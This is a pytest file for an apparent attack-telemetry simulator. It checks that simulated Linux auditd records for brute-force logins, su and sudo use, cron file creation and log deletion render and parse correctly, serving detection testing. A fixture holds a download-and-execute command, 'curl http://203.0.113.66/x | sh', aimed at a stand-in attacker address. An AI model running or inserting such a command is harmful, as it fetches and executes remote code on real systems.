"""``linux.auditd``: records that the audit system's own tools read."""

import csv
import io

import pytest

from simulator import Tag, User
from simulator_linux.auditd_encoding import argument_list, arguments, command_name, title, typed, untrusted
from simulator_linux.auditd_format import AuditdFormat
from simulator_linux.auditd_renderer import AUDITD
from tests.plugins.readers import output_of
from tests.plugins.rendering import ALICE, ATTACKER, NOBODY, ROOT, TAG, WEB1, event_types, rendered_records

WWW = User("www-data", uid=33)
MALLORY = User("mallory", uid=1005)
SESSION = b"\0\0\0\x0c"
SHELL = {"image": "/usr/bin/dash", "command_line": "sh -c 'curl http://203.0.113.66/x | sh'"}


def parsed(event, **values):
    """Return the records as a detector sees them: without the tag."""
    lines = rendered_records(AUDITD, AuditdFormat(), event, values)
    return [AuditdFormat().layout.parse(line.replace(AuditdFormat().tag_text(TAG), "")) for line in lines]


def kinds(event, **values):
    return [record["type"] for record in parsed(event, **values)]


def test_a_record_begins_with_the_machine_and_ends_with_the_tag():
    line = rendered_records(AUDITD, AuditdFormat(), "systemd.unit_started", {"unit": "nginx.service"})[0]

    assert line == (
        "node=web1 type=SERVICE_START msg=audit(1772438401.123:2000): pid=1 uid=0 auid=4294967295 ses=4294967295 "
        'subj=unconfined msg=\'unit=nginx comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? '
        'res=success\'\x1dUID="root" AUID="unset" feint_run="r1a2b3c4d" feint_playbook="ssh-brute-force"'
    )


@pytest.mark.parametrize("playbook", ["ssh-brute-force", 'a "b" c', "naïve"])
def test_the_tag_is_found_again_and_can_be_taken_out(playbook):
    tag, form = Tag("r1a2b3c4d", playbook), AuditdFormat()
    (line,) = rendered_records(AUDITD, form, "su.failed", {"user": ALICE, "target": ROOT}, tag)
    bare = line.replace(form.tag_text(tag), "")

    assert form.is_tagged(form.layout.parse(line), tag)
    assert not form.is_tagged(form.layout.parse(line), TAG) or tag == TAG
    assert not form.is_tagged(form.layout.parse(bare), tag)
    assert form.layout.parse(bare).items() <= form.layout.parse(line).items()


def test_a_process_is_a_group_of_records_with_one_serial():
    records = parsed("process.started", user=WWW, pid=4711, parent_pid=4700, **SHELL)

    assert [record["type"] for record in records] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]
    assert {record["serial"] for record in rendered_groups(("process.started", {"user": WWW, **SHELL}))} == {"2000"}
    assert {record["time"] for record in records} == {"1772438401.123"}


def rendered_groups(*events):
    """Return parsed records of events one after the other, counters running on as in a stream."""
    found, serial = [], AUDITD.counters["serial"].start
    for event, values in events:
        lines = rendered_records(AUDITD, AuditdFormat(), event, values, counters={"serial": serial})
        serial += len(lines)
        found += [AuditdFormat().layout.parse(line) for line in lines]
    return found


def test_no_two_events_of_a_machine_share_a_serial():
    records = rendered_groups(
        ("process.started", {"user": ALICE, **SHELL}),
        ("file.created", {"user": ALICE, "image": "/usr/bin/touch", "path": "/srv/x"}),
        ("su.failed", {"user": ALICE, "target": ROOT}),
    )

    assert [(r["type"], r["serial"]) for r in records if r["type"] in ("SYSCALL", "USER_AUTH")] == [
        ("SYSCALL", "2000"),
        ("SYSCALL", "2006"),
        ("USER_AUTH", "2011"),
    ]


def test_a_daemons_process_has_no_login_and_no_terminal():
    call = parsed("process.started", user=WWW, **SHELL)[0]

    assert (call["auid"], call["ses"], call["tty"]) == ("4294967295", "4294967295", "(none)")
    assert (call["uid"], call["euid"], call["EUID"]) == ("33", "33", "www-data")
    assert (call["syscall"], call["SYSCALL"], call["arch"]) == ("59", "execve", "c000003e")
    assert (call["comm"], call["exe"]) == ("dash", "/usr/bin/dash")


def test_a_users_process_belongs_to_the_session_that_the_login_opened():
    login = parsed("ssh.login_succeeded", user=ALICE, source=ATTACKER, logon=SESSION)
    call = parsed("process.started", user=ALICE, logon=SESSION, terminal="pts/0", **SHELL)[0]
    opened = next(record for record in login if record["type"] == "LOGIN")

    assert (opened["auid"], opened["ses"]) == (call["auid"], call["ses"]) == ("1000", "12")
    assert call["tty"] == "pts0"


def test_arguments_with_blanks_are_hexadecimal_in_execve_and_the_title_is():
    records = parsed("process.started", user=WWW, **SHELL)
    execve, proctitle = records[1], records[-1]

    assert (execve["argc"], execve["a0"], execve["a1"]) == ("3", "sh", "-c")
    assert bytes.fromhex(execve["a2"]) == b"curl http://203.0.113.66/x | sh"
    assert bytes.fromhex(proctitle["proctitle"]) == b"sh\0-c\0curl http://203.0.113.66/x | sh"


def test_values_are_encoded_as_the_kernel_does():
    assert untrusted("cat") == '"cat"'
    assert untrusted("my file") == "6D792066696C65"
    assert untrusted('a"b') == "612262"
    assert untrusted("ä") == "C3A4"
    assert argument_list("ls -l '/tmp/a b'") == 'argc=3 a0="ls" a1="-l" a2=2F746D702F612062'
    assert title("whoami") == '"whoami"'
    assert len(title("cat " + "x" * 500)) == 2 * 128
    assert command_name("/usr/lib/systemd/systemd-journald") == '"systemd-journal"'
    assert typed("/usr/bin/apt update") == "61707420757064617465"
    assert arguments("echo 'not closed") == ["echo", "'not", "closed"]


def test_a_file_that_is_made_is_a_path_of_type_create_in_its_folder():
    call, cwd, folder, made, _ = parsed("file.created", user=ROOT, image="/usr/bin/vim.basic", path="/etc/cron.d/job")

    assert (call["SYSCALL"], call["a0"], call["a2"], call["items"]) == ("openat", "ffffff9c", "241", "2")
    assert cwd["cwd"] == "/"
    assert (folder["name"], folder["nametype"], folder["mode"]) == ("/etc/cron.d/", "PARENT", "040755")
    assert (made["name"], made["nametype"], made["mode"], made["ouid"]) == (
        "/etc/cron.d/job",
        "CREATE",
        "0100644",
        "0",
    )


def test_a_file_of_the_system_stays_roots_when_another_user_reads_it():
    passwd = parsed("file.read", user=ALICE, image="/usr/bin/cat", path="/etc/passwd")[2]
    note = parsed("file.read", user=ALICE, image="/usr/bin/cat", path="/home/alice/note")[2]

    assert (passwd["ouid"], passwd["OUID"], passwd["nametype"]) == ("0", "root", "NORMAL")
    assert (note["ouid"], note["OUID"]) == ("1000", "alice")


def test_nothing_is_told_of_a_file_whose_program_is_unknown():
    assert parsed("file.deleted", user=ROOT, path="/x") == []


def test_a_failed_login_is_told_by_pam_and_by_sshd():
    pam, sshd = parsed("ssh.login_failed", user=ROOT, source=ATTACKER)

    assert (pam["type"], pam["op"], pam["acct"], pam["res"]) == ("USER_AUTH", "PAM:authentication", "root", "failed")
    assert (pam["hostname"], pam["addr"], pam["terminal"]) == ("203.0.113.66", "203.0.113.66", "ssh")
    assert (sshd["type"], sshd["op"], sshd["acct"], sshd["hostname"]) == ("USER_LOGIN", "login", "root", "?")
    assert (sshd["addr"], sshd["terminal"], sshd["res"]) == ("203.0.113.66", "sshd", "failed")


def test_sshd_does_not_give_the_name_of_a_user_who_does_not_exist():
    records = parsed("ssh.login_failed", user=NOBODY, source=ATTACKER)

    assert [bytes.fromhex(record["acct"]) for record in records if record["type"] == "USER_LOGIN"] == [
        b"(unknown user)",
        b"(invalid user)",
    ]


@pytest.mark.parametrize(
    ("event", "values", "expected"),
    [
        (
            "ssh.login_succeeded",
            {},
            ["USER_AUTH", "USER_ACCT", "CRED_ACQ", "LOGIN", "USER_START", "USER_LOGIN"],
        ),
        (
            "ssh.login_succeeded",
            {"method": "publickey", "terminal": None},
            ["USER_ACCT", "CRED_ACQ", "LOGIN", "USER_START"],
        ),
        ("ssh.session_closed", {}, ["USER_END", "CRED_DISP"]),
        ("sudo.command", {"target": ROOT, "command": "/bin/id"}, ["USER_ACCT", "USER_CMD", "CRED_REFR", "USER_START"]),
        ("sudo.failed", {"target": ROOT, "command": "/bin/id"}, ["USER_AUTH", "USER_CMD"]),
        ("sudo.failed", {"target": ROOT, "command": "/bin/id", "reason": "user NOT in sudoers"}, ["USER_CMD"]),
        ("su.succeeded", {"target": ROOT}, ["USER_AUTH", "USER_ACCT", "CRED_ACQ", "USER_START"]),
        ("cron.job", {"command": "x"}, ["USER_ACCT", "CRED_ACQ", "LOGIN", "USER_START", "CRED_DISP", "USER_END"]),
        ("account.created", {"target": MALLORY}, ["ADD_GROUP", "ADD_USER", "ADD_USER"]),
        ("account.deleted", {"target": MALLORY}, ["DEL_USER", "DEL_GROUP"]),
        ("account.password_reset", {"target": MALLORY}, ["USER_CHAUTHTOK"]),
    ],
)
def test_what_programs_tell_the_audit_system(event, values, expected):
    assert kinds(event, user=ALICE, **values) == expected


def test_only_services_are_told_of_units():
    assert kinds("systemd.unit_stopped", unit="firewalld.service") == ["SERVICE_STOP"]
    assert kinds("systemd.unit_stopped", unit="apt-daily.timer") == []
    assert parsed("systemd.unit_stopped", unit="firewalld.service")[0]["unit"] == "firewalld"


def test_every_event_that_is_told_exists():
    assert set(AUDITD.templates) <= set(event_types())


STORY = (
    ("ssh.login_failed", {"user": ROOT}),
    ("ssh.login_failed", {"user": NOBODY}),
    ("ssh.login_succeeded", {"user": ALICE, "logon": SESSION}),
    ("process.started", {"user": ALICE, "logon": SESSION, "terminal": "pts/0", **SHELL}),
    ("process.started", {"user": WWW, "image": "/usr/bin/id"}),
    ("file.created", {"user": ROOT, "image": "/usr/bin/touch", "path": "/etc/cron.d/my job"}),
    ("file.deleted", {"user": ROOT, "image": "/usr/bin/rm", "path": "/var/log/auth.log"}),
    ("sudo.command", {"user": ALICE, "target": ROOT, "command": "/usr/bin/apt update"}),
    ("su.failed", {"user": ALICE, "target": ROOT}),
    ("cron.job", {"user": ROOT, "command": "x"}),
    ("systemd.unit_started", {"unit": "nginx.service"}),
    ("account.created", {"user": ROOT, "target": MALLORY, "terminal": "pts/0"}),
)


@pytest.fixture
def audit_log(tmp_path):
    """A log of a story, and the lines in it."""
    serial, lines = 2000, []
    for event, values in STORY:
        lines += rendered_records(AUDITD, AuditdFormat(), event, {"host": WEB1, **values}, counters={"serial": serial})
        serial = 2000 + len(lines)
    path = tmp_path / "audit.log"
    path.write_text("\n".join(lines) + "\n")
    return path, lines


def test_ausearch_reads_every_record_and_keeps_the_tag(audit_log):
    path, lines = audit_log

    read = output_of(["ausearch", "-if", str(path), "--raw"], "auditd").removesuffix("\n").split("\n")

    assert sorted(line.removesuffix("\x1d") for line in read) == sorted(lines)  # it adds one where there was none


def test_ausearch_counts_the_events_that_there_are_and_calls_them_by_name(audit_log):
    path, lines = audit_log
    printed = output_of(["ausearch", "-if", str(path), "--format", "csv"], "auditd")
    rows = list(csv.DictReader(io.StringIO(printed)))

    assert len(rows) == len({line.split("): ")[0].rsplit(":", 1)[1] for line in lines})
    assert {row["NODE"] for row in rows} == {"web1"}
    told = [(row["EVENT_KIND"], row["SUBJ_PRIME"], row["ACTION"], row["RESULT"], row["OBJ_PRIME"]) for row in rows]
    assert ("audit-rule", "alice", "executed", "success", "/usr/bin/dash") in told
    assert ("audit-rule", "system", "opened-file", "success", "/etc/cron.d/my job") in told
    assert ("audit-rule", "system", "deleted", "success", "/var/log/auth.log") in told
    assert ("user-login", "root", "logged-in", "failed", "sshd") in told
    assert ("user-login", "(invalid user)", "logged-in", "failed", "sshd") in told
    assert ("user-space", "alice", "ran-command", "success", "apt update") in told


def test_ausearch_interprets_every_record_without_complaint(audit_log):
    path, _ = audit_log
    printed = output_of(["ausearch", "-if", str(path), "-i"], "auditd")

    assert "syscall=execve" in printed
    assert "a2=curl http://203.0.113.66/x | sh" in printed
    assert "a2=O_WRONLY|O_CREAT|O_TRUNC" in printed
    assert "auid=alice" in printed
    assert not any(word in printed.lower() for word in ("unknown[", "malformed", "error", "invalid record"))
